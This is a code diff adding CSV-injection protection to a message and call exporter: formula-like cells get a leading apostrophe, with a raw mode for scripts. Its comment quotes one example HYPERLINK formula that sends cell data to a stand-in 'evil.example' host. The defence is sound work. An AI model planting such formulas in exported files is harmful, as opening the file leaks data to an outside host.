@@ -1,7 +1,14 @@
 /**
  * CSV for spreadsheets and scripts (RFC 4180): fields separated by commas, records ended by CRLF,
  * a field quoted when it holds a comma, a double quote, CR or LF, with quotes doubled inside.
- * Values are written exactly (no formula escaping), so a text starting with `=` stays that text.
+ *
+ * Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula, so a text
+ * message like `=HYPERLINK("https://evil.example/?"&A1, "open")` or a DDE call would act when
+ * the file is opened ("CSV injection"). By default such text is written with a leading `'`,
+ * which spreadsheets show as plain text (docs/exports.md). Numbers and phone numbers
+ * (`+15550001`, `-3`, `+1 (555) 000-1234`) are left as they are: made of digits, spaces and
+ * `( ) . , ; + - * # /` only, they can compute arithmetic at most, never call anything.
+ * `raw: true` writes every value exactly, for scripts.
  */
 import { conversationTitle, personLabel, type CallView, type ConversationView, type MessageView, type PersonView } from '../export-view.js';
 import { isoWithOffset } from '../time.js';
@@ -17,6 +24,28 @@ export function csvField(value: string): string {
 
 export function csvLine(fields: readonly string[]): string {
   return fields.map(csvField).join(',') + '\r\n';
+}
+
+export interface CsvValueOptions {
+  /** Write values exactly, formula-like text included (for scripts, not spreadsheets). */
+  raw?: boolean;
+}
+
+/** What a spreadsheet takes for the start of a formula, and the tab and CR it skips before one. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+/**
+ * Numbers, phone numbers and lists of them (`+15550001; +15550002`, `*#06#`): without letters,
+ * quotes, `|` or `!` a formula can neither name a function, a cell or a sheet nor start a DDE call.
+ */
+const NUMBER_LIKE = /^[\d ().,;+\-*#/]*$/;
+
+/** `value`, with a leading `'` when a spreadsheet would run it as a formula. */
+export function neutraliseFormula(value: string): string {
+  return FORMULA_START.test(value) && !NUMBER_LIKE.test(value) ? `'${value}` : value;
+}
+
+function values(fields: string[], options: CsvValueOptions): string {
+  return csvLine(options.raw === true ? fields : fields.map(neutraliseFormula));
 }
 
 export const MESSAGE_COLUMNS = [
@@ -45,8 +74,8 @@ function list(values: string[]): string {
   return values.join('; ');
 }
 
-export function messageCsvLine(m: MessageView, conversation: ConversationView): string {
-  return csvLine([
+export function messageCsvLine(m: MessageView, conversation: ConversationView, options: CsvValueOptions = {}): string {
+  return values([
     String(m.conversationId),
     conversationTitle(conversation),
     isoWithOffset(m.dateMs),
@@ -59,9 +88,9 @@ export function messageCsvLine(m: MessageView, conversation: ConversationView): 
     list(m.recipients.map(address)),
     m.text,
     list(m.attachments.map((a) => a.name)),
-  ]);
+  ], options);
 }
 
-export function callCsvLine(c: CallView): string {
-  return csvLine([isoWithOffset(c.dateMs), String(c.dateMs), c.type, c.person.address, c.person.name ?? '', c.durationS === null ? '' : String(c.durationS)]);
+export function callCsvLine(c: CallView, options: CsvValueOptions = {}): string {
+  return values([isoWithOffset(c.dateMs), String(c.dateMs), c.type, c.person.address, c.person.name ?? '', c.durationS === null ? '' : String(c.durationS)], options);
 }
